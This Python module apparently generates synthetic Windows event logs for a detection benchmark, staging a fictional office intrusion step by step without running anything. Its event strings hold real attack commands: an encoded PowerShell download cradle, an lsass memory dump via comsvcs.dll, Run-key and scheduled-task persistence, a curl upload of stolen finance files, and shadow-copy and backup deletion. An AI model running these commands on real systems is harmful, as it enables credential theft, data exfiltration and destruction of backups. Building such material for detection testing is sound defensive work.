"""A textbook intrusion into the made-up office, step by step, each event with the name of its step.

It happens on one day, or on several: days apart, or all of it again and again. Nothing is run:
these are the events such steps leave. It goes from a mail's document over an unknown
program to two machines, and ends with the backups and the log gone.
"""

import random
from collections.abc import Callable, Iterator, Mapping
from datetime import datetime, timedelta
from functools import partial
from typing import Final

from bench.benign import events as made
from bench.benign.events import Log, sid
from bench.benign.scene import DOMAIN, START
from bench.benign.wording import fields_of

_FIRST: Final = 4
"""Days of ordinary life before an intrusion of one day."""
FOOTHOLD: Final = "PC-012"
SERVER: Final = "FILES01"
STEPS: Final = (
    *("execution", "download", "implant", "discovery", "persistence", "credentials"),
    *("lateral movement", "collection", "exfiltration", "impact", "log cleared"),
)
_S32: Final = r"C:\Windows\System32"
_CMD: Final = rf"{_S32}\cmd.exe"
_PS: Final = rf"{_S32}\WindowsPowerShell\v1.0\powershell.exe"
_WORD: Final = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
_OUTLOOK: Final = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
_IMPLANT: Final = r"C:\Users\Public\Libraries\hpupd.exe"
_REMOTE: Final = r"C:\Windows\hpupd.exe"
_USER: Final = f"{DOMAIN}\\ivan"
_SYSTEM: Final = r"NT AUTHORITY\SYSTEM"
_ENCODED: Final = (
    "JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGMALgBEAG8AdwBu"
    "AGwAbwBhAGQARgBpAGwAZQAoACcAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcANwAvAGgAJwApAA=="
)
_LINE: Final = f"cmd.exe /c powershell -nop -w hidden -enc {_ENCODED}"

At = Callable[..., datetime]
Deed = Callable[[Log, At], None]
Days = Mapping[str, tuple[int, ...]]
"""On which days (0: the first of the office) each step is done."""


def once(day: int = _FIRST) -> Days:
    """All of it in one morning."""
    return dict.fromkeys(STEPS, (day,))


def spread(days: int, seed: int, first: int = _FIRST) -> Days:
    """Step after step over so many days: what one command does on the first, the end on the last."""
    draw = random.Random(f"spread:{days}:{seed}")
    between = sorted(draw.choices(range(days), k=len(STEPS) - 4))
    places = (0, 0, 0, *between, days - 1)
    return {step: (first + day,) for step, day in zip(STEPS, places, strict=True)}


def again(times: int, first: int = _FIRST) -> Days:
    """All of it, day after day."""
    return dict.fromkeys(STEPS, tuple(range(first, first + times)))


def plays(days: Days) -> dict[str, Callable[[Log], Iterator[str]]]:
    """Which machine sees what: adds events, and names the step after each."""
    came = "lateral movement"
    return {
        FOOTHOLD: partial(_play, days, _ON_FOOTHOLD, "persistence", ("implant", _logs_on)),
        SERVER: partial(_play, days, _ON_SERVER, came, (came, _boots)),
    }


def _play(
    days: Days, deeds: Mapping[str, Deed], kept: str, back: tuple[str, Deed], log: Log
) -> Iterator[str]:
    """What is done on one machine, day by day; from the day after `kept`, each begins with what
    comes `back`."""
    mine = {day for step in deeds for day in days[step]}
    for day in range(min(mine), max(day for each in days.values() for day in each) + 1):
        at = partial(_at, day)
        if day > min(days[kept]):
            back[1](log, at)
            yield back[0]
        for step, deed in deeds.items():
            if day in days[step]:
                deed(log, at)
                yield step


def _at(day: int, hour: int, minute: int, second: int = 0) -> datetime:
    return START + timedelta(days=day, hours=hour, minutes=minute, seconds=second)


def _logs_on(log: Log, at: At) -> None:
    """The user logs on, and the Run key starts the implant."""
    log.start(at(7, 4), _IMPLANT, f'"{_IMPLANT}"', r"C:\Windows\explorer.exe",
              r"C:\Windows\Explorer.EXE", _USER)  # fmt: skip
    for minute in range(5, 55, 5):
        _connects(log, at(7, minute), _IMPLANT, "203.0.113.77", 443)


def _boots(log: Log, at: At) -> None:
    """The service that was put there starts."""
    log.start(at(6, 30), _REMOTE, _REMOTE, rf"{_S32}\services.exe", "", _SYSTEM)


def _execution(log: Log, at: At) -> None:
    document = r'"C:\Users\ivan\Downloads\Invoice 4711.docm" /o ""'
    log.start(at(9, 2), _WORD, f'"{_WORD}" /n {document}', _OUTLOOK, _OUTLOOK, _USER)
    log.start(at(9, 2, 20), _CMD, _LINE, _WORD, f'"{_WORD}" /n {document}', _USER)
    log.start(at(9, 2, 21), _PS, _LINE[11:], _CMD, _LINE, _USER)


def _download(log: Log, at: At) -> None:
    log.about(at(9, 2, 25), _PS, _USER, 22, QueryName="print-updates.example", QueryStatus="0",
              QueryResults="::ffff:203.0.113.77;")  # fmt: skip
    _connects(log, at(9, 2, 26), _PS, "203.0.113.77", 80)
    log.about(at(9, 2, 30), _PS, _USER, 11, TargetFilename=_IMPLANT,
              CreationUtcTime=made.utc(at(9, 2, 30)))  # fmt: skip


def _implant(log: Log, at: At) -> None:
    log.start(at(9, 3), _IMPLANT, f'"{_IMPLANT}"', _PS, _LINE[11:], _USER)
    for minute in range(5, 55, 5):
        _connects(log, at(9, minute), _IMPLANT, "203.0.113.77", 443)


def _discovery(log: Log, at: At) -> None:
    asked = ("whoami /all", "net group \"Domain Admins\" /domain", "nltest /domain_trusts",
             "net view /all /domain", "ipconfig /all", "quser")  # fmt: skip
    for number, command in enumerate(asked):
        image = rf"{_S32}\{command.split()[0]}.exe"
        log.start(at(9, 20, 6 * number), _CMD, f"cmd.exe /c {command}", _IMPLANT, _IMPLANT, _USER)
        log.start(at(9, 20, 6 * number + 1), image, command, _CMD, f"cmd.exe /c {command}", _USER)


def _persistence(log: Log, at: At) -> None:
    log.about(at(9, 26), _IMPLANT, _USER, 13, EventType="SetValue", Details=_IMPLANT,
              TargetObject=rf"HKU\{sid('ivan')}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\HPUpdate")  # fmt: skip
    task = rf'schtasks /create /tn "HP Update" /tr {_IMPLANT} /sc onlogon /f'
    log.start(at(9, 27), rf"{_S32}\schtasks.exe", task, _IMPLANT, _IMPLANT, _USER)


def _credentials(log: Log, at: At) -> None:
    dump = rf"rundll32.exe {_S32}\comsvcs.dll, MiniDump 744 C:\Windows\Temp\d.dmp full"
    log.start(at(9, 41), rf"{_S32}\rundll32.exe", dump, _IMPLANT, _IMPLANT, _USER)
    log.add(at(9, 41, 1), made.SYSMON, 10, RuleName="-", UtcTime=made.utc(at(9, 41, 1)),
            SourceProcessGUID=f"{{{fields_of(log, '')['guid'].upper()}}}", SourceProcessId=5120,
            SourceThreadId=6001, SourceImage=rf"{_S32}\rundll32.exe",
            TargetProcessGUID=f"{{{fields_of(log, '')['guid'].upper()}}}", TargetProcessId=744,
            TargetImage=rf"{_S32}\lsass.exe", GrantedAccess="0x1fffff",
            CallTrace=rf"{_S32}\ntdll.dll+9d4c4|{_S32}\dbgcore.dll+6e9a",
            SourceUser=_USER, TargetUser=_SYSTEM)  # fmt: skip


def _lateral_movement(log: Log, at: At) -> None:
    ident = log.number(0x7F0000, 0x7FFFFF)
    log.add(at(10, 4), made.SECURITY, 4624, SubjectUserSid=made.NOBODY, SubjectUserName="-",
            SubjectDomainName="-", SubjectLogonId="0x0", TargetUserSid=sid("adm.nora"),
            TargetUserName="adm.nora", TargetDomainName=DOMAIN, TargetLogonId=ident, LogonType=3,
            LogonProcessName="NtLmSsp ", AuthenticationPackageName="NTLM",
            WorkstationName=FOOTHOLD, LogonGuid="{00000000-0000-0000-0000-000000000000}",
            TransmittedServices="-", LmPackageName="NTLM V2", KeyLength=128, ProcessId="0x0",
            ProcessName="-", IpAddress="10.30.1.12", IpPort="50441")  # fmt: skip
    log.add(at(10, 4, 1), made.SECURITY, 4672, SubjectUserSid=sid("adm.nora"),
            SubjectUserName="adm.nora", SubjectDomainName=DOMAIN, SubjectLogonId=ident,
            PrivilegeList="SeSecurityPrivilege\n\t\t\tSeDebugPrivilege")  # fmt: skip
    log.add(at(10, 4, 3), made.SECURITY, 5145, SubjectUserSid=sid("adm.nora"),
            SubjectUserName="adm.nora", SubjectDomainName=DOMAIN, SubjectLogonId=ident,
            ObjectType="File", IpAddress="10.30.1.12", IpPort="50442", ShareName=r"\\*\ADMIN$",
            ShareLocalPath=r"\??\C:\Windows", RelativeTargetName="hpupd.exe", AccessReason="-",
            AccessMask="0x2", AccessList="%%4417\n\t\t\t\t")  # fmt: skip
    log.add(at(10, 4, 5), made.SCM, 7045, ServiceName="hpsvc", ImagePath=_REMOTE,
            ServiceType="user mode service", StartType="demand start",
            AccountName="LocalSystem")  # fmt: skip
    log.start(at(10, 4, 6), _REMOTE, _REMOTE, rf"{_S32}\services.exe", "", _SYSTEM)


def _collection(log: Log, at: At) -> None:
    packed = r"cmd.exe /c 7z.exe a -r -hpS3cret C:\Windows\Temp\f.7z D:\Shares\finance"
    log.start(at(10, 30), _CMD, packed, _REMOTE, _REMOTE, _SYSTEM)
    log.start(at(10, 30, 1), r"C:\Windows\Temp\7z.exe", packed[11:], _CMD, packed, _SYSTEM)


def _exfiltration(log: Log, at: At) -> None:
    sent = r"curl.exe -k -T C:\Windows\Temp\f.7z https://203.0.113.77/u"
    log.start(at(10, 52), rf"{_S32}\curl.exe", sent, _REMOTE, _REMOTE, _SYSTEM)


def _impact(log: Log, at: At) -> None:
    ruined = ("vssadmin delete shadows /all /quiet", "wbadmin delete catalog -quiet",
              "bcdedit /set {default} recoveryenabled no")  # fmt: skip
    for number, command in enumerate(ruined):
        image = rf"{_S32}\{command.split()[0]}.exe"
        log.start(at(11, 40, 2 * number), image, command, _REMOTE, _REMOTE, _SYSTEM)


def _log_cleared(log: Log, at: At) -> None:
    log.add(at(11, 45), ("Microsoft-Windows-Eventlog", "Security"), 1102,
            SubjectUserSid=made.SYSTEM_SID, SubjectUserName="SYSTEM",
            SubjectDomainName="NT AUTHORITY", SubjectLogonId="0x3e7")  # fmt: skip


def _connects(log: Log, when: datetime, image: str, ip: str, port: int) -> None:
    log.about(when, image, _USER, 3, Protocol="tcp", Initiated="true", SourceIsIpv6="false",
              SourceIp=log.machine.ip, SourceHostname=log.machine.fqdn, SourcePort=50111,
              DestinationIsIpv6="false", DestinationIp=ip, DestinationHostname="-",
              DestinationPort=port)  # fmt: skip


_ON_FOOTHOLD: Final = {
    "execution": _execution,
    "download": _download,
    "implant": _implant,
    "discovery": _discovery,
    "persistence": _persistence,
    "credentials": _credentials,
}
_ON_SERVER: Final = {
    "lateral movement": _lateral_movement,
    "collection": _collection,
    "exfiltration": _exfiltration,
    "impact": _impact,
    "log cleared": _log_cleared,
}
